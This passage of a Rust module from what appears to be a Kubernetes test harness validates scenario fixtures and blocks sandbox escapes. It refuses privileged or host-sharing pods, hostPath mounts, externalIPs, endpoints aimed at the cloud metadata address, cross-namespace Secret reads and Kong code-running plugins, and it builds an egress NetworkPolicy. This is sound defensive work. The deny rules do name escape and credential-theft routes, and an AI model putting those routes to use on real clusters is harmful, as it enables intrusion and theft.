//! Where a scenario may act. Everything a scenario creates, changes or deletes lives in its own
//! namespace (made for the run, labelled with it, deleted with it); the only cluster-scoped
//! objects it may create are the kinds in [`CLUSTER_SCOPED_ALLOWED`], labelled with the run and
//! deleted by that label when the scenario ends. Reading (`wait`, `expect-resource`) is not
//! limited. This matters most on a cluster the harness did not create (`--provider existing`).
//!
//! The check here runs without a cluster (lint, plan, e2e before anything starts) from what
//! kinds are known to be cluster-scoped; the executor checks again with the API server's own
//! answer (discovery's scope) before each write: `k8s::apply_scoped`, `k8s::delete_scoped`.

use serde_json::Value;

use super::fixture::Manifest;
use super::load::{LoadError, LoadedScenario};
use super::model::Step;
use crate::diagnostic::Diagnostic;

/// The cluster-scoped kinds a scenario's fixtures may create: Kong's global plugins. Each is
/// labelled with the run and deleted by that label (`Live::clean_up`).
pub const CLUSTER_SCOPED_ALLOWED: &[(&str, &str)] = &[("configuration.konghq.com/v1", "KongClusterPlugin")];

/// Kinds known to be cluster-scoped: Kubernetes' own (kubectl api-resources --namespaced=false
/// on 1.35) and those of the pinned Kong, Gateway API, Istio and Linkerd CRDs. A kind missing
/// here is still refused at run time, when discovery says it is cluster-scoped.
const CLUSTER_SCOPED: &[&str] = &[
    "Namespace",
    "Node",
    "PersistentVolume",
    "ComponentStatus",
    "ClusterRole",
    "ClusterRoleBinding",
    "StorageClass",
    "CSIDriver",
    "CSINode",
    "VolumeAttachment",
    "VolumeAttributesClass",
    "IngressClass",
    "RuntimeClass",
    "PriorityClass",
    "CustomResourceDefinition",
    "APIService",
    "MutatingWebhookConfiguration",
    "ValidatingWebhookConfiguration",
    "ValidatingAdmissionPolicy",
    "ValidatingAdmissionPolicyBinding",
    "MutatingAdmissionPolicy",
    "MutatingAdmissionPolicyBinding",
    "CertificateSigningRequest",
    "ClusterTrustBundle",
    "FlowSchema",
    "PriorityLevelConfiguration",
    "DeviceClass",
    "IPAddress",
    "ServiceCIDR",
    "TokenReview",
    "SelfSubjectReview",
    "SubjectAccessReview",
    "SelfSubjectAccessReview",
    "SelfSubjectRulesReview",
    "KongClusterPlugin",
    "GatewayClass",
];

/// Whether `kind` is one this module knows to be cluster-scoped.
pub fn is_cluster_scoped(kind: &str) -> bool {
    CLUSTER_SCOPED.contains(&kind)
}

/// Whether a scenario may create cluster-scoped objects of `kind` in `api_version`'s group.
pub fn cluster_scoped_allowed(api_version: &str, kind: &str) -> bool {
    let group = |v: &str| v.split_once('/').map_or("", |(g, _)| g).to_owned();
    CLUSTER_SCOPED_ALLOWED.iter().any(|(v, k)| *k == kind && group(v) == group(api_version))
}

/// A cluster-scoped object of a scenario is named after the scenario's namespace (which holds
/// the run id): it can never be an object that existed before the run, so applying it takes
/// nothing over and deleting it by the run's label removes only what the run made.
fn cluster_scoped_name_problem(kind: &str, name: &str, namespace: &str) -> Option<String> {
    (!owned_by_namespace(name, namespace)).then(|| {
        format!("cluster-scoped {kind}/{name} must be named after the scenario's namespace (`{{{{ namespace }}}}-...`), so it cannot be an object that exists already")
    })
}

/// Whether a cluster-scoped object named `name` belongs to the scenario of `namespace`: named
/// `<namespace>` or `<namespace>-...`. The one rule the scope check and cleanup share, so
/// whatever a scenario may create, cleanup deletes; and `t-1` never owns `t-10-...`.
pub fn owned_by_namespace(name: &str, namespace: &str) -> bool {
    name.strip_prefix(namespace).is_some_and(|rest| rest.is_empty() || rest.starts_with('-'))
}

fn allowed_list() -> String {
    CLUSTER_SCOPED_ALLOWED.iter().map(|(_, k)| *k).collect::<Vec<_>>().join(", ")
}

/// The pod spec inside a workload object, by kind.
fn pod_spec_path(kind: &str) -> Option<&'static [&'static str]> {
    match kind {
        "Pod" => Some(&["spec"]),
        "Deployment" | "StatefulSet" | "DaemonSet" | "ReplicaSet" | "Job" | "ReplicationController" => {
            Some(&["spec", "template", "spec"])
        }
        "CronJob" => Some(&["spec", "jobTemplate", "spec", "template", "spec"]),
        _ => None,
    }
}

/// What makes a scenario touch state other scenarios share, when it does: a Kong plugin made
/// global (KIC applies a `KongClusterPlugin` or `KongPlugin` labelled `global: "true"` to every
/// route), or Kong's or ztunnel's metrics read without a label naming the scenario's namespace
/// (counters of every scenario running at the same time).
pub fn shared_state(loaded: &LoadedScenario, manifests: &[Manifest], namespace: &str) -> Option<String> {
    let global = manifests.iter().find(|m| {
        matches!(m.kind.as_str(), "KongClusterPlugin" | "KongPlugin")
            && m.object.pointer("/metadata/labels/global").and_then(Value::as_str) == Some("true")
    });
    if let Some(m) = global {
        return Some(format!("{} {} is labelled `global: \"true\"`: Kong applies it to every route", m.kind, m.name));
    }
    if let Some((i, target)) =
        loaded.scenario.steps.iter().enumerate().find_map(|(i, s)| s.restarts_shared().map(|t| (i, t)))
    {
        return Some(format!("step {} restarts {target}, which every scenario's traffic goes through", i + 1));
    }
    loaded.scenario.steps.iter().enumerate().find_map(|(i, step)| {
        let crate::model::Step::Metrics(metrics) = step else { return None };
        let whose = match metrics.target {
            crate::model::MetricsTarget::Kong => "Kong's",
            crate::model::MetricsTarget::Ztunnel => "ztunnel's",
            crate::model::MetricsTarget::MeshProxy { .. } => return None,
        };
        let scoped = |e: &crate::model::SeriesExpect| {
            e.labels.values().any(|m| match m {
                crate::model::LabelMatch::Equals(v) => v.contains(namespace),
                crate::model::LabelMatch::Prefix { prefix } => prefix.contains(namespace),
            })
        };
        metrics.expect.iter().find(|e| !scoped(e)).map(|e| {
            format!("step {} reads {whose} `{}` series without a label naming the scenario's namespace", i + 1, e.name)
        })
    })
}

/// What a scenario's pods may not do: reach the node (kind nodes are privileged containers on
/// the user's Docker host) or run an image the checkout does not pin.
fn pod_problem(spec: &Value, images: &[&str]) -> Option<(Vec<String>, String)> {
    let at = |parts: &[&str]| parts.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
    for host in ["hostNetwork", "hostPID", "hostIPC"] {
        if spec.get(host).and_then(Value::as_bool) == Some(true) {
            return Some((at(&[host]), format!("`{host}: true` shares the node's namespace with the pod")));
        }
    }
    for (v, volume) in spec.get("volumes").and_then(Value::as_array).into_iter().flatten().enumerate() {
        if volume.get("hostPath").is_some() {
            return Some((
                vec!["volumes".into(), v.to_string(), "hostPath".into()],
                "a hostPath volume mounts the node's files".into(),
            ));
        }
    }
    if spec.pointer("/securityContext/privileged").and_then(Value::as_bool) == Some(true) {
        return Some((at(&["securityContext", "privileged"]), "a privileged pod controls the node".into()));
    }
    if let Some((rest, message)) = security_context_problem(spec.get("securityContext")) {
        let mut path = at(&["securityContext"]);
        path.extend(rest);
        return Some((path, message));
    }
    for list in ["initContainers", "containers", "ephemeralContainers"] {
        for (c, container) in spec.get(list).and_then(Value::as_array).into_iter().flatten().enumerate() {
            let here = |rest: &[&str]| {
                let mut p = vec![list.to_owned(), c.to_string()];
                p.extend(rest.iter().map(|r| (*r).to_owned()));
                p
            };
            let image = container.get("image").and_then(Value::as_str).unwrap_or_default();
            if !images.contains(&image) {
                return Some((
                    here(&["image"]),
                    format!(
                        "image `{}` is not one of the checkout's pinned images (write `{{{{ images.<name> }}}}`; pinned: \
                         {}); to run your own, pin it under `[images]` in versions.toml (e.g. `myapp = \"{}\"`) and \
                         write `{{{{ images.myapp }}}}`",
                        crate::names::printable(image),
                        images.join(", "),
                        crate::names::printable(image)
                    ),
                ));
            }
            if container.pointer("/securityContext/privileged").and_then(Value::as_bool) == Some(true) {
                return Some((
                    here(&["securityContext", "privileged"]),
                    "a privileged container controls the node".into(),
                ));
            }
            if let Some((rest, message)) = security_context_problem(container.get("securityContext")) {
                let mut path = here(&["securityContext"]);
                path.extend(rest);
                return Some((path, message));
            }
            let added = container.pointer("/securityContext/capabilities/add").and_then(Value::as_array);
            if added.is_some_and(|a| !a.is_empty()) {
                return Some((
                    here(&["securityContext", "capabilities", "add"]),
                    "added capabilities reach beyond the pod".into(),
                ));
            }
            let host_port = container
                .get("ports")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .any(|p| p.get("hostPort").is_some());
            if host_port {
                return Some((here(&["ports"]), "a hostPort binds a port of the node".into()));
            }
        }
    }
    None
}

/// A pod's or container's security context that asks for what no scenario needs: no seccomp
/// filter at all, or root by name (`runAsUser: 0`, `runAsNonRoot: false`). The kubelet's own
/// defaults are left alone: the meshes' init containers and the images' users decide those.
fn security_context_problem(context: Option<&Value>) -> Option<(Vec<String>, String)> {
    let context = context?;
    if context.pointer("/seccompProfile/type").and_then(Value::as_str) == Some("Unconfined") {
        return Some((
            vec!["seccompProfile".into(), "type".into()],
            "`seccompProfile: Unconfined` lifts the syscall filter; leave it out or use `RuntimeDefault`".into(),
        ));
    }
    if context.get("runAsUser").and_then(Value::as_i64) == Some(0) {
        return Some((vec!["runAsUser".into()], "`runAsUser: 0` runs as root".into()));
    }
    if context.get("runAsNonRoot").and_then(Value::as_bool) == Some(false) {
        return Some((vec!["runAsNonRoot".into()], "`runAsNonRoot: false` asks to run as root".into()));
    }
    None
}

/// Objects that reach beyond the scenario's pods through the network or RBAC, which no scenario
/// needs: a Service's `externalIPs` (captures traffic for any address cluster-wide,
/// CVE-2020-8554), an `ExternalName` Service (Kong would proxy to any host it names), hand-made
/// Endpoints or EndpointSlices (a selector-less Service sent anywhere, e.g. 169.254.169.254), a
/// RoleBinding of a ClusterRole (`cluster-admin` in the namespace) or of subjects from other
/// namespaces. Returns the field path and why.
fn reach_problem(m: &Manifest) -> Option<(Vec<&'static str>, String)> {
    let o = &m.object;
    match m.kind.as_str() {
        "Service" if o.pointer("/spec/externalIPs").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) => Some((
            vec!["spec", "externalIPs"],
            "`externalIPs` lets a Service capture traffic for any address in the cluster (CVE-2020-8554)".into(),
        )),
        "Service" if o.pointer("/spec/type").and_then(Value::as_str) == Some("ExternalName") => Some((
            vec!["spec", "type"],
            "an `ExternalName` Service points the cluster (and Kong) at a host outside it".into(),
        )),
        "Service" if matches!(o.pointer("/spec/type").and_then(Value::as_str), Some("NodePort" | "LoadBalancer")) => {
            Some((
                vec!["spec", "type"],
                "a NodePort or LoadBalancer Service opens a port on the node (k3s's ServiceLB binds the host's); a \
                 scenario's Services are ClusterIP"
                    .into(),
            ))
        }
        "Endpoints" | "EndpointSlice" => Some((
            vec!["kind"],
            format!(
                "a scenario does not make {} by hand: a Service selects its pods, and hand-made endpoints can send \
                 traffic anywhere",
                m.kind
            ),
        )),
        "RoleBinding" if o.pointer("/roleRef/kind").and_then(Value::as_str) == Some("ClusterRole") => Some((
            vec!["roleRef", "kind"],
            "a RoleBinding of a ClusterRole grants a cluster-wide role's rules (e.g. cluster-admin) in the namespace; \
             bind a Role of the scenario's own"
                .into(),
        )),
        "RoleBinding" => {
            let namespace = m.namespace.as_deref();
            let foreign = o.pointer("/subjects").and_then(Value::as_array).into_iter().flatten().any(|s| {
                s.get("namespace").and_then(Value::as_str).is_some_and(|ns| Some(ns) != namespace)
                    || matches!(s.get("kind").and_then(Value::as_str), Some("User" | "Group"))
            });
            foreign.then(|| {
                (vec!["subjects"], "a RoleBinding may name only ServiceAccounts of the scenario's own namespace".into())
            })
        }
        _ => None,
    }
}

/// Kong plugins that run code of the bundle's choosing inside Kong (Kong 3.9 bundles them;
/// kong/plugins/pre-function, post-function).
const CODE_PLUGINS: &[&str] = &["pre-function", "post-function"];

/// What an untrusted bundle's object may not be or do, on top of every scenario's rules, as
/// `(field path, why)`: a NetworkPolicy of its own (policies add up, so one allowing egress
/// would undo the sandbox's); a container that runs anything but its image's entrypoint
/// (`command`/`args`, an `exec` probe or lifecycle hook); a pod that lifts AppArmor, unmasks
/// `/proc`, sets sysctls or allows privilege escalation; a Kong plugin that runs code, or whose
/// configuration names a host outside `reachable` (the scenario's namespace and the trace
/// collector's): Kong's own pods would connect there. Checked offline at the object's line and
/// again on every object the executor sends (`Live::fixture_guard`).
pub fn untrusted_object_problem(object: &Value, reachable: &[&str]) -> Option<(Vec<String>, String)> {
    let kind = object.get("kind").and_then(Value::as_str).unwrap_or_default();
    let path = |parts: &[&str]| parts.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
    if kind == "NetworkPolicy" {
        return Some((
            path(&["kind"]),
            "an untrusted bundle brings no NetworkPolicy of its own: policies add up, and one could open what the \
             sandbox's egress policy closes"
                .into(),
        ));
    }
    if matches!(kind, "KongPlugin" | "KongClusterPlugin") {
        let plugin = object.get("plugin").and_then(Value::as_str).unwrap_or_default();
        if CODE_PLUGINS.contains(&plugin) {
            return Some((
                path(&["plugin"]),
                format!("the `{plugin}` plugin runs Lua of the bundle's choosing inside Kong"),
            ));
        }
        let mut found = None;
        outside_hosts(
            object.get("config").unwrap_or(&Value::Null),
            &mut vec!["config".to_owned()],
            reachable,
            &mut found,
        );
        return found.map(|(at, host)| {
            (
                at,
                format!(
                    "the plugin's configuration sends Kong to `{}`, outside the cluster's own services",
                    crate::names::printable(&host)
                ),
            )
        });
    }
    if let Some(annotations) = object
        .pointer("/spec/template/metadata/annotations")
        .or_else(|| object.pointer("/metadata/annotations"))
        .and_then(Value::as_object)
        && let Some((key, _)) = annotations.iter().find(|(k, v)| {
            k.starts_with("container.apparmor.security.beta.kubernetes.io/") && v.as_str() == Some("unconfined")
        })
    {
        return Some((
            path(&["metadata", "annotations", key]),
            "AppArmor `unconfined` lifts the container's profile".into(),
        ));
    }
    let spec_path = pod_spec_path(kind)?;
    let spec = spec_path.iter().try_fold(object, |v, k| v.get(*k))?;
    let at =
        |rest: &[&str]| spec_path.iter().copied().chain(rest.iter().copied()).map(str::to_owned).collect::<Vec<_>>();
    if spec.pointer("/securityContext/sysctls").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) {
        return Some((
            at(&["securityContext", "sysctls"]),
            "sysctls change the node's kernel settings for the pod".into(),
        ));
    }
    if spec.pointer("/securityContext/appArmorProfile/type").and_then(Value::as_str) == Some("Unconfined") {
        return Some((
            at(&["securityContext", "appArmorProfile", "type"]),
            "AppArmor `Unconfined` lifts the pod's profile".into(),
        ));
    }
    for list in ["initContainers", "containers", "ephemeralContainers"] {
        for (c, container) in spec.get(list).and_then(Value::as_array).into_iter().flatten().enumerate() {
            let index = c.to_string();
            let here = |rest: &[&str]| at(&[&[list, index.as_str()], rest].concat());
            for key in ["command", "args"] {
                if container.get(key).is_some() {
                    return Some((
                        here(&[key]),
                        format!(
                            "an untrusted bundle's containers run their image's own entrypoint, not a `{key}` the bundle chose"
                        ),
                    ));
                }
            }
            for hook in [
                &["livenessProbe"][..],
                &["readinessProbe"],
                &["startupProbe"],
                &["lifecycle", "postStart"],
                &["lifecycle", "preStop"],
            ] {
                let handler = hook.iter().try_fold(container, |v, k| v.get(*k));
                if handler.and_then(|h| h.get("exec")).is_some() {
                    return Some((
                        here(&[hook, &["exec"]].concat()),
                        "an `exec` probe or hook runs a command of the bundle's choosing in the container".into(),
                    ));
                }
            }
            let context = container.get("securityContext");
            if context.and_then(|c| c.get("allowPrivilegeEscalation")).and_then(Value::as_bool) == Some(true) {
                return Some((
                    here(&["securityContext", "allowPrivilegeEscalation"]),
                    "privilege escalation is not for a stranger's pod".into(),
                ));
            }
            if context.and_then(|c| c.get("procMount")).and_then(Value::as_str) == Some("Unmasked") {
                return Some((
                    here(&["securityContext", "procMount"]),
                    "an unmasked /proc shows the node's kernel interfaces".into(),
                ));
            }
            if context.and_then(|c| c.pointer("/appArmorProfile/type")).and_then(Value::as_str) == Some("Unconfined") {
                return Some((
                    here(&["securityContext", "appArmorProfile", "type"]),
                    "AppArmor `Unconfined` lifts the container's profile".into(),
                ));
            }
        }
    }
    None
}

/// The first string under a plugin's `config` that names a host (a URL, or a `host`/`*_host`
/// field) other than a Service of the `reachable` namespaces, with where it is.
fn outside_hosts(value: &Value, at: &mut Vec<String>, reachable: &[&str], found: &mut Option<(Vec<String>, String)>) {
    if found.is_some() {
        return;
    }
    match value {
        Value::Object(map) => {
            for (k, v) in map {
                at.push(k.clone());
                if let Some(text) = v.as_str()
                    && (k == "host" || k.ends_with("_host") || k.ends_with("hosts"))
                    && !in_cluster_host(text, reachable)
                {
                    *found = Some((at.clone(), text.to_owned()));
                    return;
                }
                outside_hosts(v, at, reachable, found);
                at.pop();
            }
        }
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                at.push(i.to_string());
                outside_hosts(v, at, reachable, found);
                at.pop();
            }
        }
        Value::String(text) if text.contains("://") => {
            let rest = text.split_once("://").map_or(text.as_str(), |(_, r)| r);
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
            if !in_cluster_host(host, reachable) {
                *found = Some((at.clone(), text.clone()));
            }
        }
        _ => {}
    }
}

/// `<service>.<namespace>[.svc[.cluster.local]]` for a namespace in `reachable`, the service a
/// DNS-1123 label (so no address, decimal or dotted, and no other domain).
pub fn in_cluster_host(host: &str, reachable: &[&str]) -> bool {
    let labels: Vec<&str> = host.trim_end_matches('.').split('.').collect();
    let suffix_ok = matches!(labels.get(2..), Some([]) | Some(["svc"]) | Some(["svc", "cluster", "local"]));
    match labels.as_slice() {
        [service, namespace, ..] => {
            suffix_ok
                && reachable.contains(namespace)
                && crate::names::dns1123_label(service).is_ok()
                && !service.bytes().all(|b| b.is_ascii_digit())
        }
        _ => false,
    }
}

/// What an untrusted bundle may not do, at the line it is written: any object
/// [`untrusted_object_problem`] refuses; a client pod's request to anything but a Service of the
/// scenario's namespace (Kong's admin API, the API server, the client's own proxy admin, an
/// address); a `delete` of a NetworkPolicy (the sandbox's own). `--trust-bundle` lifts this.
pub fn untrusted_problem(loaded: &LoadedScenario, manifests: &[Manifest]) -> Option<Box<Diagnostic>> {
    let help = "run it only if you trust the bundle's author: repro run --trust-bundle";
    let namespace = loaded.vars.get("namespace").unwrap_or_default();
    let collector = loaded.vars.get("tracing.namespace").unwrap_or("tracing");
    for (i, step) in loaded.scenario.steps.iter().enumerate() {
        let index = i.to_string();
        let refusal = match step {
            Step::FromPod(s) if !own_service_url(&s.url, namespace) => Some((
                ["steps", index.as_str(), "from-pod", "url"],
                format!("steps[{i}].from-pod.url"),
                format!(
                    "an untrusted bundle's client pods send requests only to Services of the scenario's namespace \
                     (http://<service>.{{{{ namespace }}}}.svc.cluster.local/...), not to `{}`",
                    crate::names::printable(&s.url)
                ),
            )),
            Step::Delete(d) if d.resource.as_ref().is_some_and(|r| r.kind == "NetworkPolicy") => Some((
                ["steps", index.as_str(), "delete", "resource"],
                format!("steps[{i}].delete.resource"),
                "an untrusted bundle deletes no NetworkPolicy: the sandbox's egress policy is one".to_owned(),
            )),
            s if s.upgrades() => Some((
                [
                    "steps",
                    index.as_str(),
                    s.kind(),
                    match s {
                        Step::Upgrade(u) if u.part == crate::scenario::UpgradePart::Kong => "kong",
                        Step::Upgrade(_) => "mesh",
                        _ => "during",
                    },
                ],
                format!("steps[{i}].{}", s.kind()),
                "an untrusted bundle upgrades nothing (neither the mesh nor Kong): an upgrade runs Helm against the cluster"
                    .to_owned(),
            )),
            _ => None,
        };
        if let Some((path, field, message)) = refusal {
            let position = loaded.rendered.source_position(crate::yaml::locate(&loaded.rendered.text, &path));
            let d = Diagnostic::error("scope", &loaded.path, position, message)
                .with_field(field)
                .with_source(&loaded.source)
                .with_help(help);
            return Some(Box::new(d));
        }
    }
    for m in manifests {
        if let Some((path, message)) = untrusted_object_problem(&m.object, &[namespace, collector]) {
            let path: Vec<&str> = path.iter().map(String::as_str).collect();
            let d =
                Diagnostic::error("scope", &m.file, m.position_of(&path), format!("{} {}: {message}", m.kind, m.name))
                    .with_field(path.join("."))
                    .with_source(&m.source)
                    .with_help(help);
            return Some(Box::new(d));
        }
    }
    None
}

/// `http://<service>[.<namespace>[.svc[.cluster.local]]][:port]/...` naming a Service of
/// `namespace`, without user info: a bare service name resolves in the client's own namespace.
pub fn own_service_url(url: &str, namespace: &str) -> bool {
    let Some(rest) = url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")) else { return false };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    if authority.contains('@') {
        return false;
    }
    let host = authority.rsplit_once(':').map_or(authority, |(h, _)| h);
    let bare = !host.contains('.')
        && crate::names::dns1123_label(host).is_ok()
        && !host.bytes().all(|b| b.is_ascii_digit())
        && host != "localhost";
    bare || in_cluster_host(host, &[namespace])
}

/// Pod specs of an untrusted bundle's objects get the runtime's default seccomp filter when
/// they name none (the kubelet's default is `Unconfined` unless its `seccompDefault` is on,
/// which kind does not turn on). Pod Security Admission would refuse the meshes' init
/// containers (Istio's and Linkerd's need NET_ADMIN), so the filter is set, not required.
pub fn with_default_seccomp(mut object: Value) -> Value {
    let kind = object.get("kind").and_then(Value::as_str).unwrap_or_default().to_owned();
    let Some(path) = pod_spec_path(&kind) else { return object };
    let mut spec = &mut object;
    for key in path {
        match spec.get_mut(*key) {
            Some(next) => spec = next,
            None => return object,
        }
    }
    if let Some(spec) = spec.as_object_mut() {
        let context = spec.entry("securityContext").or_insert_with(|| serde_json::json!({}));
        if let Some(context) = context.as_object_mut()
            && !context.contains_key("seccompProfile")
        {
            context.insert("seccompProfile".into(), serde_json::json!({"type": "RuntimeDefault"}));
        }
    }
    object
}

/// The name of the egress policy an untrusted bundle's namespace gets.
pub const SANDBOX_POLICY: &str = "kme2e-sandbox-egress";

/// A NetworkPolicy for an untrusted bundle's namespace `namespace`: its pods may open
/// connections only to pods of the namespace itself, to cluster DNS (kube-system, port 53) and
/// to the namespaces in `allowed` (the mesh's control plane, which the proxies need, and the
/// trace collector's, which they export to; not Kong's, whose admin API would reconfigure it);
/// nothing else: no node, no other namespace, no address outside the cluster (169.254.169.254
/// included). Ingress is not restricted (Kong must reach the backend). Namespaces are selected by
/// `kubernetes.io/metadata.name`, which the API server sets on every namespace (GA in 1.22).
/// Enforced where the CNI enforces NetworkPolicy: kind's kindnetd does since kind v0.24.0
/// (kubernetes-sigs/kind#3612), k3s with its built-in network policy controller.
pub fn sandbox_policy(namespace: &str, allowed: &[&str]) -> Value {
    let mut namespaces: Vec<&str> = allowed.iter().copied().filter(|ns| !ns.is_empty()).collect();
    namespaces.sort_unstable();
    namespaces.dedup();
    serde_json::json!({
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": SANDBOX_POLICY, "namespace": namespace},
        "spec": {
            "podSelector": {},
            "policyTypes": ["Egress"],
            "egress": [
                {"to": [{"podSelector": {}}]},
                {
                    "to": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}}}],
                    "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
                },
                {"to": [{"namespaceSelector": {"matchExpressions": [
                    {"key": "kubernetes.io/metadata.name", "operator": "In", "values": namespaces}
                ]}}]},
            ],
        },
    })
}

/// The scenario's fixtures and steps act only in its namespace (and on allowed cluster-scoped
/// kinds), with bounded objects, pinned images and pods that stay in their containers.
pub fn check(loaded: &LoadedScenario, manifests: &[Manifest]) -> Result<(), LoadError> {
    let namespace = loaded.vars.get("namespace").unwrap_or_default();
    let at = |path: &[&str], field: String, message: String| {
        let position = loaded.rendered.source_position(crate::yaml::locate(&loaded.rendered.text, path));
        LoadError(Box::new(
            Diagnostic::error("scope", &loaded.path, position, message).with_field(field).with_source(&loaded.source),
        ))
    };
    if !loaded.scenario.exclusive
        && let Some(why) = shared_state(loaded, manifests, namespace)
    {
        let mut e = at(&["name"], "exclusive".into(), format!("{why}: other scenarios running beside it would see it"));
        e.0.help =
            Some("declare `exclusive: true` (the scenario then runs alone), or scope it to its namespace".into());
        return Err(e);
    }
    for key in loaded.scenario.namespace.labels.keys() {
        if key.starts_with("pod-security.kubernetes.io/") {
            return Err(at(
                &["namespace", "labels", key],
                format!("namespace.labels.{key}"),
                "a scenario may not change its namespace's pod security admission".into(),
            ));
        }
    }
    if let Some(d) = manifest_problems(loaded, manifests).next() {
        return Err(LoadError(Box::new(d)));
    }
    // Names a step gives become API paths as written (kube-rs does not escape them).
    for (i, step) in loaded.scenario.steps.iter().enumerate() {
        let index = i.to_string();
        let mut named: Vec<(&str, &str)> = Vec::new();
        let resource = match step {
            Step::Delete(super::model::DeleteStep { resource: Some(r), .. })
            | Step::Wait(super::model::WaitStep { resource: r, .. })
            | Step::ExpectResource(super::model::ExpectResourceStep { resource: r, .. }) => Some(r),
            _ => None,
        };
        if let Some(r) = resource {
            named.push(("name", r.name.as_str()));
            named.extend(r.namespace.as_deref().map(|ns| ("namespace", ns)));
        }
        for nested in std::iter::once(step).chain(step.nested()) {
            if let Step::Restart(super::model::RestartStep {
                target: super::model::RestartTarget::Workload { name, .. },
                ..
            }) = nested
            {
                named.push(("name", name.as_str()));
            }
        }
        if let Some((what, problem)) =
            named.iter().find_map(|(what, n)| crate::names::api_path_segment(n).err().map(|e| (*what, e)))
        {
            return Err(at(
                &["steps", index.as_str(), step.kind()],
                format!("steps[{i}].{}", step.kind()),
                format!("step {} names an object's {what} that {problem}", i + 1),
            ));
        }
    }
    for (i, step) in loaded.scenario.steps.iter().enumerate() {
        let index = i.to_string();
        match step {
            Step::Delete(d) => {
                let Some(r) = &d.resource else { continue };
                let path = ["steps", index.as_str(), "delete", "resource"];
                let field = format!("steps[{i}].delete.resource");
                if let Some(ns) = r.namespace.as_deref().filter(|ns| *ns != namespace) {
                    return Err(at(
                        &path,
                        field,
                        format!("a delete step acts only in the scenario's namespace, not in `{ns}`"),
                    ));
                }
                let created_here = manifests.iter().any(|m| m.kind == r.kind && m.name == r.name);
                if is_cluster_scoped(&r.kind) && !(cluster_scoped_allowed(&r.api_version, &r.kind) && created_here) {
                    return Err(at(
                        &path,
                        field,
                        format!(
                            "a delete step may delete cluster-scoped {}/{} only when the scenario's fixtures \
                             create it (and its kind is one of: {})",
                            r.kind,
                            r.name,
                            allowed_list()
                        ),
                    ));
                }
            }
            // Reading is free, except credentials elsewhere: evidence quotes what it read.
            Step::Wait(super::model::WaitStep { resource: r, .. })
            | Step::ExpectResource(super::model::ExpectResourceStep { resource: r, .. })
                if r.kind == "Secret" && r.namespace.as_deref().is_some_and(|ns| ns != namespace) =>
            {
                let key = if matches!(step, Step::Wait(_)) { "wait" } else { "expect-resource" };
                return Err(at(
                    &["steps", index.as_str(), key, "resource"],
                    format!("steps[{i}].{key}.resource"),
                    "a scenario reads Secrets only in its own namespace: failure evidence quotes what it read".into(),
                ));
            }
            Step::FromPod(s) => {
                if let Some(ns) = s.client.namespace.as_deref().filter(|ns| *ns != namespace) {
                    return Err(at(
                        &["steps", index.as_str(), "from-pod", "client", "namespace"],
                        format!("steps[{i}].from-pod.client.namespace"),
                        format!("client pods run in the scenario's namespace, not in `{ns}`"),
                    ));
                }
            }
            _ => {}
        }
    }
    for (i, mutant) in loaded.scenario.mutants.iter().enumerate() {
        for (j, change) in mutant.set.iter().enumerate() {
            let identity = matches!(change.path.as_slice(), [m, f, ..] if m == "metadata" && (f == "namespace" || f == "name"))
                || matches!(change.path.as_slice(), [f] if f == "kind" || f == "apiVersion" || f == "metadata");
            if identity {
                let index = i.to_string();
                return Err(at(
                    &["mutants", index.as_str(), "set"],
                    format!("mutants[{i}].set[{j}].path"),
                    format!(
                        "mutant {} changes {}: a mutant changes an object's content, never which object it is",
                        mutant.name,
                        change.path.join(".")
                    ),
                ));
            }
        }
    }
    Ok(())
}

/// Every fixture object a scenario may not create, one finding each (the run refuses the
/// first; `repro new` reports them all at once).
pub fn manifest_problems<'a>(
    loaded: &'a LoadedScenario,
    manifests: &'a [Manifest],
) -> impl Iterator<Item = Diagnostic> + 'a {
    let namespace = loaded.vars.get("namespace").unwrap_or_default();
    let images: Vec<&str> =
        loaded.vars.names().filter(|n| n.starts_with("images.")).filter_map(|n| loaded.vars.get(n)).collect();
    manifests.iter().filter_map(move |m| manifest_problem(m, namespace, &images))
}

/// What is wrong with one fixture object, if anything: its pods, its reach beyond the
/// cluster, its scope.
fn manifest_problem(m: &Manifest, namespace: &str, images: &[&str]) -> Option<Diagnostic> {
    if let Some(path) = pod_spec_path(&m.kind) {
        let spec = path.iter().try_fold(&m.object, |v, k| v.get(*k));
        if let Some((rest, message)) = spec.and_then(|s| pod_problem(s, images)) {
            let full: Vec<&str> = path.iter().copied().chain(rest.iter().map(String::as_str)).collect();
            let d =
                Diagnostic::error("scope", &m.file, m.position_of(&full), format!("{} {}: {message}", m.kind, m.name))
                    .with_field(full.join("."))
                    .with_source(&m.source);
            return Some(d);
        }
    }
    if let Some((path, message)) = reach_problem(m) {
        let d = Diagnostic::error("scope", &m.file, m.position_of(&path), format!("{} {}: {message}", m.kind, m.name))
            .with_field(path.join("."))
            .with_source(&m.source);
        return Some(d);
    }
    let problem = if is_cluster_scoped(&m.kind) {
        if cluster_scoped_allowed(&m.api_version, &m.kind) {
            cluster_scoped_name_problem(&m.kind, &m.name, namespace).map(|p| (vec!["metadata", "name"], p))
        } else {
            Some((
                vec!["kind"],
                format!(
                    "a scenario may not create cluster-scoped {} objects; cluster-scoped kinds it may create: {}",
                    m.kind,
                    allowed_list()
                ),
            ))
        }
    } else {
        m.namespace.as_deref().filter(|ns| *ns != namespace).map(|ns| {
            (
                vec!["metadata", "namespace"],
                format!(
                    "{}/{} is in namespace `{ns}`; a scenario's objects live in its own namespace \
                     (leave metadata.namespace out, or write \"{{{{ namespace }}}}\")",
                    m.kind, m.name
                ),
            )
        })
    };
    if let Some((path, message)) = problem {
        let d = Diagnostic::error("scope", &m.file, m.position_of(&path), message)
            .with_field(path.join("."))
            .with_source(&m.source);
        return Some(d);
    }
    None
}

/// The run-time check of one object about to be written: the executor's last word before the
/// API server, with the scope discovery reported (`cluster_scoped`).
